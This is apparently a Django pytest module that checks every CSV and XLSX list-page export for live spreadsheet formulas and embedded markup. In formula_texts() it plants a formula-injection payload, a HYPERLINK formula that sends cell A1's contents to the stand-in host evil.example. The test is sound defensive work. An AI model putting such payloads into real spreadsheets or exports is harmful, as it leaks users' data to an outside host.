"""Safe exports, for every list page ("Trustworthy records", #21).

Every list page that offers CSV or XLSX is found in the URL conf (an
``ObjectListView`` with export formats: no hand list). For each, one record is
made with the model's factory, its free-text fields starting with a formula
(``=``, ``+``, ``-``, ``@``, tab, carriage return), and the process group
exports it in both formats. The gate fails when a formula-leading text comes
out live (a CSV cell without the leading ``'``, an XLSX formula cell), when a
cell holds markup (``<`` and a letter), or when the record cannot be found in
the export at all (then the check proved nothing: give the model a factory
or let the process group see it)."""

from __future__ import annotations

import csv
import io
import pkgutil
import re
from dataclasses import dataclass
from datetime import date, timedelta
from decimal import Decimal, InvalidOperation
from importlib import import_module
from typing import Any

import factory
import pytest
from django.db import models
from django.test import RequestFactory
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

import tests
from opf.core.ui.export import FORMULA_LEADS, export_rows, is_formula, plain
from opf.core.ui.reading import ObjectListView
from tests.doors import url_patterns

pytestmark = pytest.mark.django_db

MARKUP = re.compile(r"<[A-Za-z]")


@dataclass(frozen=True)
class ExportPage:
    name: str  # URL name, e.g. "lessons:lesson_list"
    model: type[models.Model]
    formats: tuple[str, ...]

    def __str__(self) -> str:
        return self.name


def export_pages() -> list[ExportPage]:
    """Every list page of the URL conf that offers an export."""
    pages = []
    for name, pattern in sorted(url_patterns().items()):
        view_class = getattr(pattern.callback, "view_class", None)
        if view_class is None or not issubclass(view_class, ObjectListView):
            continue
        initkwargs = pattern.callback.view_initkwargs
        formats = tuple(initkwargs.get("export_formats", view_class.export_formats))
        if formats:
            pages.append(ExportPage(name, initkwargs.get("model") or view_class.model, formats))
    return pages


def factories() -> dict[type[models.Model], type[factory.django.DjangoModelFactory]]:
    """The model factories of tests/**/*factories.py, by model (``<Model>Factory`` first)."""
    found: dict[type[models.Model], type[factory.django.DjangoModelFactory]] = {}
    for info in pkgutil.walk_packages(tests.__path__, "tests."):
        if not info.name.endswith("factories"):
            continue
        for value in vars(import_module(info.name)).values():
            if not (
                isinstance(value, type)
                and issubclass(value, factory.django.DjangoModelFactory)
                and value._meta.model is not None
            ):
                continue
            model = value._meta.model
            if model not in found or value.__name__ == f"{model.__name__}Factory":
                found[model] = value
    return found


PAGES = export_pages()
FACTORIES = factories()


def formula_texts(model: type[models.Model], tag: str = "") -> dict[str, str]:
    """A formula-leading value for each free-text field of ``model``."""
    values = {}
    fields = [
        f
        for f in model._meta.concrete_fields
        if isinstance(f, models.CharField | models.TextField)
        and not f.choices
        and f.editable
        and f.name != "password"
    ]
    for n, field in enumerate(fields):
        lead = FORMULA_LEADS[n % len(FORMULA_LEADS)]
        mark = f"{n}{tag}"  # kept when cut: a unique code stays unique per record planted
        text = f'{lead}HYPERLINK("http://evil.example/?"&A1,"{mark}")'
        if field.max_length and len(text) > field.max_length:
            text = text[: field.max_length - len(mark)] + mark
        values[field.name] = text
    return values


def past_dates(model: type[models.Model]) -> dict[str, date]:
    """Last month for each optional date (a due date then is past: pages flag it, often
    with a badge, which an export must not carry)."""
    past = timezone.localdate() - timedelta(days=30)
    return {
        f.name: past
        for f in model._meta.concrete_fields
        if type(f) is models.DateField and f.null and f.editable
    }


def plant(model: type[models.Model]) -> set[str]:
    """One record of ``model`` and the records it points to (whose names its table
    may show instead of its own text), their free text starting with a formula."""
    planted = formula_texts(model)
    record = FACTORIES[model](**planted, **past_dates(model))
    texts = set(planted.values())
    for field in model._meta.concrete_fields:
        related = getattr(record, field.name) if field.is_relation else None
        if isinstance(related, models.Model):
            values = formula_texts(type(related), tag=f"-{field.name}")
            type(related)._base_manager.filter(pk=related.pk).update(**values)
            texts |= set(values.values())
    return texts


def is_number(text: str) -> bool:
    try:
        Decimal(text)
    except InvalidOperation:
        return False
    return True


def export(client: Any, page: ExportPage, wanted: str) -> list[list[Any]]:
    from django.urls import reverse

    response = client.get(reverse(page.name), {"_export": wanted})
    assert response.status_code == 200, (page, wanted, response.status_code)
    content = b"".join(response.streaming_content)
    if wanted == "csv":
        return list(csv.reader(io.StringIO(content.decode())))
    sheet = load_workbook(io.BytesIO(content)).active
    return [list(row) for row in sheet.iter_rows()]


def csv_problems(rows: list[list[str]]) -> list[str]:
    return [
        repr(cell)
        for row in rows
        for cell in row
        if (is_formula(cell) and not is_number(cell)) or MARKUP.search(cell)
    ]


def xlsx_problems(rows: list[list[Any]]) -> list[str]:
    return [
        repr(cell.value)
        for row in rows
        for cell in row
        if cell.data_type == "f"
        or (isinstance(cell.value, str) and MARKUP.search(cell.value))
        or (is_formula(cell.value) and not cell.quotePrefix)
    ]


def test_the_gate_finds_the_list_pages():
    assert len(PAGES) >= 40
    assert {"lessons:lesson_list", "lessons:noncompliance_list"} <= {p.name for p in PAGES}


# Not "page": that name is Playwright's browser page fixture, which would make this a
# browser test (another database lifecycle, and a [chromium] parameter).
@pytest.mark.parametrize("listing", PAGES, ids=str)
def test_an_export_holds_no_live_formula_and_no_markup(listing, people, client_as):
    assert listing.model in FACTORIES, f"{listing}: no factory for {listing.model.__name__}"
    planted = plant(listing.model)
    client = client_as(people.epg)
    rows = export(client, listing, "csv")
    assert csv_problems(rows) == [], f"{listing}: live formula or markup in the CSV export"
    found = [c for row in rows[1:] for c in row if c.startswith(tuple(f"'{v}" for v in planted))]
    assert found, f"{listing}: the record's text is not in the export"
    if "xlsx" in listing.formats:
        cells = export(client, listing, "xlsx")
        assert xlsx_problems(cells) == [], f"{listing}: live formula or markup in the XLSX export"
        assert len(cells) == len(rows)


def page_table(listing: ExportPage, user: Any) -> tuple[ObjectListView, Any]:
    """The list view of ``listing`` as ``user`` opens it (no filter), and its table."""
    callback = url_patterns()[listing.name].callback
    request = RequestFactory().get(reverse(listing.name))
    request.user = user
    view = callback.view_class(**callback.view_initkwargs)
    view.setup(request)
    view.filterset = view.get_filterset(view.get_filterset_class())
    view.object_list = view.filterset.qs
    return view, view.get_table(**view.get_table_kwargs())


@pytest.mark.parametrize("listing", PAGES, ids=str)
def test_an_export_reads_each_cell_as_the_table_does(listing, people):
    """The export reads cells its own, faster way (``opf.core.ui.export.Cell``); it
    must give what django-tables2's ``Table.as_values`` gives, on every export page."""
    plant(listing.model)
    view, table = page_table(listing, people.epg)
    exclude = view.exclude_columns
    ours = list(export_rows(table, exclude=exclude))
    theirs = [[plain(value) for value in row] for row in table.as_values(exclude_columns=exclude)]
    assert len(ours) > 1, f"{listing}: nothing exported, so nothing compared"
    assert ours[0] == theirs[0], listing
    # The export adds the primary key to the sort (rows that tie come out in one order)
    assert sorted(ours[1:], key=repr) == sorted(theirs[1:], key=repr), listing
